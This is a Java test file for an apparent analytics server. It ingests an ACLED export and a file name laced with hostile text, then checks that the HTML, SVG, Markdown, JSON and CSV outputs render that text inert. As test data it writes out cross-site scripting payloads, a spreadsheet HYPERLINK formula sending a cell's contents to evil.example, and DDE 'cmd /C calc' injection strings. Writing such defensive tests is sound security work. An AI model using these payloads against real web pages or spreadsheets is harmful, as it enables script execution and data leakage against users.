package org.harmattan.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.InputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.harmattan.analytics.actors.ActorRegistry;
import org.harmattan.briefs.render.BriefWriter;
import org.harmattan.domain.event.SourceSystem;
import org.harmattan.domain.figure.Period;
import org.harmattan.engine.accounts.Role;
import org.harmattan.service.brief.BriefService;
import org.harmattan.service.brief.Scopes;
import org.harmattan.service.ingest.FileOutcome;
import org.harmattan.service.ingest.IngestService;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An ACLED export whose actors, places, notes, event ids and file name carry HTML, script URLs,
 * Markdown and spreadsheet formulas (one place, near Bamako, is drawn on the capital's map) ({@code
 * hostile/acled-hostile-text.csv}, written under a hostile file name), ingested into a real store:
 * every output shows the text as text. The brief's HTML and SVG keep no script, event handler or
 * script URL; its Markdown keeps its code spans and links; its figures.json is JSON holding the
 * text verbatim; the CSV exports neutralise formulas and keep numbers numbers.
 */
class HostileTextOutputsTest {
  static final String WINDOW = "country=MLI&from=2025-01-01&to=2025-03-31";
  static final String SCRIPT = "<script>alert(1)</script>";
  static final String IMG = "<img src=x onerror=alert(2)>";
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")";

  /** The file name: a formula first, then two backticks, HTML, a Markdown link and a pipe. */
  static final String FILE_NAME =
      "=HYPERLINK(1) `` <img src=x onerror=alert(7)> [x](javascript:alert(8)) | .csv";

  @TempDir static Path dir;
  static TestServer server;
  static BriefWriter.Written brief;

  @BeforeAll
  static void start() throws IOException {
    server = new TestServer(dir);
    Path file = dir.resolve(FILE_NAME);
    try (InputStream in =
        HostileTextOutputsTest.class.getResourceAsStream("hostile/acled-hostile-text.csv")) {
      Files.write(file, in.readAllBytes());
    }
    FileOutcome o =
        new IngestService(server.store, TestServer.TODAY)
            .ingest(file, IngestService.Options.detect(), b -> {});
    assertThat(o).as(o.toString()).isInstanceOf(FileOutcome.Events.class);
    // Every row is an event: the payloads are valid text, not bad data.
    assertThat(((FileOutcome.Events) o).report().inserted()).isEqualTo(5);
    Period period = new Period(LocalDate.of(2025, 1, 1), LocalDate.of(2025, 3, 31));
    ActorRegistry registry = ActorRegistry.shipped();
    brief =
        BriefService.produce(
            server.store.analytics(),
            server.store.observations(),
            registry,
            new BriefService.Request(
                "MLI",
                period,
                null,
                Set.of(SourceSystem.ACLED),
                false,
                "",
                dir.resolve("brief"),
                Scopes.resolve(
                    server.store.analytics(),
                    registry,
                    "MLI",
                    List.of(),
                    List.of(),
                    List.of(),
                    null),
                BriefService.Context.defaults().withoutOutlook()),
            TestServer.TODAY);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @Test
  void theBriefsHtmlShowsThePayloadsAsTextAndRunsNone() throws IOException {
    String html = Files.readString(brief.html(), StandardCharsets.UTF_8);
    Document doc = Jsoup.parse(html);
    assertNothingActive(doc);
    // The hostile actor is named in the brief, as text.
    assertThat(doc.text()).contains(SCRIPT).contains(FILE_NAME);
  }

  @Test
  void theChartsAndMapsAreWellFormedSvgWithNothingActive() throws IOException {
    List<Path> svgs = new ArrayList<>(brief.charts());
    Path maps = brief.html().resolveSibling("maps");
    if (Files.isDirectory(maps)) {
      try (Stream<Path> s = Files.list(maps)) {
        s.filter(p -> p.toString().endsWith(".svg")).forEach(svgs::add);
      }
    }
    assertThat(svgs).isNotEmpty();
    StringBuilder all = new StringBuilder();
    for (Path svg : svgs) {
      String text = Files.readString(svg, StandardCharsets.UTF_8);
      // Well-formed XML: jsoup's XML parser would repair it silently, the JDK's does not.
      javax.xml.parsers.DocumentBuilderFactory f =
          javax.xml.parsers.DocumentBuilderFactory.newInstance();
      try {
        f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        f.newDocumentBuilder().parse(new org.xml.sax.InputSource(new java.io.StringReader(text)));
      } catch (javax.xml.parsers.ParserConfigurationException | org.xml.sax.SAXException e) {
        throw new AssertionError(svg + " is not well-formed XML: " + e.getMessage(), e);
      }
      Document doc = Jsoup.parse(text, "", Parser.xmlParser());
      assertNothingActive(doc);
      all.append(doc.text()).append('\n');
    }
    assertThat(all).contains(SCRIPT);
  }

  @Test
  void theFiguresJsonIsJsonHoldingTheTextVerbatim() throws IOException {
    JsonNode root = TestServer.JSON.readTree(brief.figuresJson().toFile());
    String flat = root.toString();
    assertThat(root.findValuesAsText("dataset")).contains(FILE_NAME);
    // The event ids come back whole, backticks and angle brackets included.
    assertThat(flat).contains("MLI``9901").contains("MLI9903<b>");
  }

  @Test
  void theMarkdownKeepsItsCodeSpansTablesAndLinks() throws IOException {
    String md = Files.readString(brief.markdown(), StandardCharsets.UTF_8);
    // The file name in the table of sources: a code span fenced by three backticks (it holds a run
    // of two), its '|' escaped for the table; the row keeps its six cells.
    String span =
        "```=HYPERLINK(1) `` <img src=x onerror=alert(7)> [x](javascript:alert(8)) \\| .csv```";
    String row =
        md.lines().filter(l -> l.startsWith("| S1 |")).findFirst().orElseThrow(AssertionError::new);
    assertThat(row).contains("| " + span + " |");
    assertThat(row.replace(span, "code").split("(?<!\\\\)\\|", -1)).hasSize(8);

    // Outside code spans, no raw HTML tag, no link but the brief's own images, no heading made
    // from data.
    String text = withoutCodeSpans(md);
    assertThat(Pattern.compile("(?<!\\\\)<[A-Za-z/!]").matcher(text).find())
        .as("raw HTML outside code spans")
        .isFalse();
    Matcher link = Pattern.compile("(?<!\\\\)\\]\\(([^)]*)\\)").matcher(text);
    while (link.find()) {
      assertThat(link.group(1)).matches("(charts|maps)/[A-Za-z0-9._-]+\\.svg");
    }
    assertThat(md.lines().filter(l -> l.startsWith("#")))
        .allSatisfy(l -> assertThat(l).doesNotContain("Heading"));
    // The actor's name as escaped text.
    assertThat(md).contains("\\<script\\>alert(1)\\</script\\>");
  }

  @Test
  void theEventsCsvNeutralisesFormulasAndKeepsNumbers() {
    HttpResponse<String> r =
        server.get("/api/v1/events?" + WINDOW + "&format=csv&sort=date", Role.ANALYST);
    assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
    List<List<String>> rows = parseCsv(r.body());
    List<String> header = rows.get(0);
    List<String> cells = new ArrayList<>();
    rows.subList(2, rows.size()).forEach(cells::addAll);
    assertThat(cells)
        .contains("'" + HYPERLINK, "'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0", "'@cmd")
        .contains("'+cmd|' /C calc'!A0")
        .doesNotContain(HYPERLINK, "@SUM(1+1)", "@cmd");
    assertThat(cells)
        .noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0 && !isPlainNumber(c));
    // Negative longitudes stay numbers.
    int lon = header.indexOf("longitude");
    assertThat(lon).isNotNegative();
    assertThat(rows.subList(2, rows.size()).stream().map(c -> c.get(lon)))
        .contains("-4.1827", "-0.0447");
  }

  @Test
  void theFiguresCsvNeutralisesTheFileName() {
    HttpResponse<String> r = server.get("/api/v1/figures?" + WINDOW + "&format=csv", Role.VIEWER);
    assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
    List<List<String>> rows = parseCsv(r.body());
    List<String> cells = new ArrayList<>();
    rows.subList(2, rows.size()).forEach(cells::addAll);
    assertThat(cells).anyMatch(c -> c.startsWith("'" + FILE_NAME + " ("));
    assertThat(cells).noneMatch(c -> c.startsWith(FILE_NAME));
  }

  /** No script element, no on… attribute, no javascript: URL, no img element from the data. */
  private static void assertNothingActive(Document doc) {
    assertThat(doc.select("script")).isEmpty();
    assertThat(doc.select("img")).isEmpty();
    for (Element e : doc.getAllElements()) {
      for (Attribute a : e.attributes()) {
        assertThat(a.getKey().toLowerCase(Locale.ROOT)).as(e.tagName()).doesNotStartWith("on");
        assertThat(a.getValue().strip().toLowerCase(Locale.ROOT))
            .as(e.tagName() + " " + a.getKey())
            .doesNotStartWith("javascript:");
      }
    }
  }

  private static boolean isPlainNumber(String c) {
    return c.matches("[+-]?(?:[0-9]+(?:\\.[0-9]*)?|\\.[0-9]+)(?:[eE][+-]?[0-9]+)?");
  }

  /**
   * The Markdown with its code spans (CommonMark: a run of n backticks to the next run of n) cut.
   */
  private static String withoutCodeSpans(String md) {
    StringBuilder b = new StringBuilder();
    int i = 0;
    while (i < md.length()) {
      char ch = md.charAt(i);
      if (ch == '\\' && i + 1 < md.length()) {
        b.append(ch).append(md.charAt(i + 1));
        i += 2;
        continue;
      }
      if (ch == '`') {
        int n = 0;
        while (i + n < md.length() && md.charAt(i + n) == '`') {
          n++;
        }
        int close = findRun(md, i + n, n);
        if (close >= 0) {
          b.append("CODE");
          i = close + n;
          continue;
        }
        b.append(md, i, i + n);
        i += n;
        continue;
      }
      b.append(ch);
      i++;
    }
    return b.toString();
  }

  private static int findRun(String s, int from, int n) {
    int i = from;
    while (i < s.length()) {
      if (s.charAt(i) == '`') {
        int m = 0;
        while (i + m < s.length() && s.charAt(i + m) == '`') {
          m++;
        }
        if (m == n) {
          return i;
        }
        i += m;
      } else {
        i++;
      }
    }
    return -1;
  }

  /** RFC 4180 with the body's '#' comment lines skipped. */
  static List<List<String>> parseCsv(String body) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    boolean lineStart = true;
    for (int i = 0; i < body.length(); i++) {
      char ch = body.charAt(i);
      if (lineStart && ch == '#' && rows.isEmpty()) {
        i = body.indexOf("\r\n", i) + 1;
        continue;
      }
      lineStart = false;
      if (quoted) {
        if (ch == '"' && i + 1 < body.length() && body.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (ch == '"') {
          quoted = false;
        } else {
          cell.append(ch);
        }
      } else if (ch == '"') {
        quoted = true;
      } else if (ch == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (ch == '\r' && i + 1 < body.length() && body.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
        lineStart = true;
      } else {
        cell.append(ch);
      }
    }
    return rows;
  }
}
